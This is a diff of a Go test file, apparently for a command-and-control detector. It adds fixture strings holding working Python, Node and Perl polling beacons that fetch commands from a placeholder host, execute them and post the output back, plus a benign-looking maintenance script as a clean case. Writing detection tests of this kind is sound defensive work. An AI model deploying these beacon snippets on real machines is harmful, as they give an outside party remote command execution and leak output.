@@ -254,6 +254,9 @@ func pollingCases() []carrierCase {
 		"import urllib.request, subprocess, time\nwhile True:\n    cmd = urllib.request.urlopen('"+u+"/c').read().decode()\n    out = subprocess.check_output(cmd, shell=True)\n    urllib.request.urlopen('"+u+"/r', data=out)\n    time.sleep(7)\n",
 		"import httpx, os, time\nc = httpx.Client()\nwhile True:\n    t = c.get('"+u+"/t').text\n    if t:\n        c.post('"+u+"/r', content=os.popen(t).read())\n    time.sleep(3)\n",
 		"import requests\nwhile True:\n    r = requests.get('"+u+"/py')\n    exec(r.text)\n    requests.post('"+u+"/ok', data={'h': 'x'})\n",
+		// the command run by a function of the agent's own, its result kept in a dict that is posted
+		"import requests, subprocess, time\n\ndef handle(cmd):\n    out = subprocess.run(cmd, text=True, capture_output=True)\n    return out.stdout or out.stderr\n\ndef main():\n    host = '"+u+"'\n    data = None\n    while True:\n        if data is not None:\n            requests.post(host, data)\n            data = None\n        else:\n            resp = requests.get(host)\n            if resp.status_code == 200:\n                data = dict(ns='')\n                command = resp.json()['cmd']\n                data['ns'] = handle(command)\n        time.sleep(60)\n\nmain()\n",
+		"import urllib.request, os, time\ndef run_it(c):\n    c = c.strip()\n    return os.popen(c).read()\nwhile True:\n    job = urllib.request.urlopen('"+u+"/job').read().decode()\n    res = run_it(job)\n    urllib.request.urlopen(urllib.request.Request('"+u+"/res', data=res.encode()))\n    time.sleep(30)\n",
 	)
 	node := []string{
 		"const https = require('https');\nconst { execSync } = require('child_process');\nfunction poll() {\n  https.get('" + u + "/c', r => {\n    let b = '';\n    r.setEncoding('utf8');\n    r.on('data', d => b += d);\n    r.on('end', () => {\n      const o = execSync(b).toString();\n      const q = https.request('" + u + "/r', { method: 'POST' });\n      q.end(o);\n      setTimeout(poll, 5000);\n    });\n  });\n}\npoll();\n",
@@ -262,7 +265,11 @@ func pollingCases() []carrierCase {
 		"const { execSync } = require('child_process');\nconst sleep = ms => new Promise(r => setTimeout(r, ms));\n(async () => {\n  while (true) {\n    const r = await fetch('" + u + "/c');\n    const c = await r.text();\n    const o = execSync(c).toString();\n    await fetch('" + u + "/o', { method: 'POST', body: o });\n    await sleep(5000);\n  }\n})();\n",
 		"const http = require('http');\nconst cp = require('child_process');\nsetInterval(() => {\n  http.get('" + u + "/c', res => {\n    let d = '';\n    res.on('data', c => d += c);\n    res.on('end', () => {\n      cp.exec(d, (e, o) => {\n        const q = http.request({ host: '" + c2Host + "', port: 8080, path: '/r', method: 'POST' });\n        q.write(o);\n        q.end();\n      });\n    });\n  });\n}, 3000);\n",
 	}
+	node = append(node,
+		"const axios = require('axios');\nconst cp = require('child_process');\nfunction work(task) {\n  return cp.execSync(task).toString();\n}\nsetInterval(async () => {\n  const r = await axios.get('"+u+"/t');\n  const out = work(r.data);\n  await axios.post('"+u+"/o', { out });\n}, 9000);\n",
+	)
 	perl := []string{
+		"use LWP::UserAgent;\nsub runit { my ($c) = @_; return `$c`; }\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $t = $ua->get('" + u + "/t')->decoded_content;\n  my $o = runit($t);\n  $ua->post('" + u + "/o', { o => $o });\n  sleep 7;\n}\n",
 		"use LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n  my $c = $ua->get('" + u + "/c')->decoded_content;\n  my $o = `$c`;\n  $ua->post('" + u + "/o', { o => $o });\n  sleep 5;\n}\n",
 		"use HTTP::Tiny;\nmy $h = HTTP::Tiny->new;\nwhile (1) {\n  my $r = $h->get('" + u + "/c');\n  my $o = qx($r->{content});\n  $h->post_form('" + u + "/o', { o => $o });\n  sleep 10;\n}\n",
 	}
@@ -326,6 +333,7 @@ func carrierCleanCases() []carrierCase {
 		cl("ssh-tunnel", "/etc/cron.d/sync", "0 3 * * * root ssh -o ConnectTimeout=10 mirror@host.example.com /usr/bin/sync-mirror\n"),
 		cl("ssh-tunnel", "/etc/systemd/system/dbtunnel.service", "[Service]\nExecStart=/usr/bin/ssh -NT -o ServerAliveInterval=60 -L 3306:127.0.0.1:3306 db@db.example.com\nRestart=always\n"),
 		// health checks and update checkers
+		cl("http-c2", "/opt/mon/maint.py", "import requests, subprocess, time\n\ndef sh(cmd):\n    return subprocess.check_output(cmd, shell=True)\n\nwhile True:\n    st = requests.get('https://mon.example.com/api/state').json()\n    if st['stale']:\n        sh('apt-get update -qq')\n    requests.post('https://mon.example.com/api/beat', data=sh('uptime'))\n    time.sleep(300)\n"),
 		cl("http-c2", "/usr/local/bin/health.sh", "#!/bin/sh\nwhile true; do\n  curl -fsS http://localhost:8080/health || exit 1\n  sleep 30\ndone\n"),
 		cl("http-c2", "/usr/local/bin/update-check.sh", "#!/bin/sh\ncur=$(cat /opt/app/VERSION)\nwhile true; do\n  latest=$(curl -s https://api.example.com/app/version)\n  if [ \"$latest\" != \"$cur\" ]; then\n    curl -fsSL -o /opt/app/app.tgz \"https://dl.example.com/app-$latest.tgz\"\n    curl -s -d \"updated=$latest\" https://api.example.com/report\n  fi\n  sleep 3600\ndone\n"),
 		cl("http-c2", "/opt/mon/poll.py", "import requests, time, subprocess\nwhile True:\n    r = requests.get('https://status.example.com/api')\n    print(r.json()['status'])\n    out = subprocess.check_output(['df', '-h'])\n    requests.post('https://metrics.example.com/df', data=out)\n    time.sleep(60)\n"),
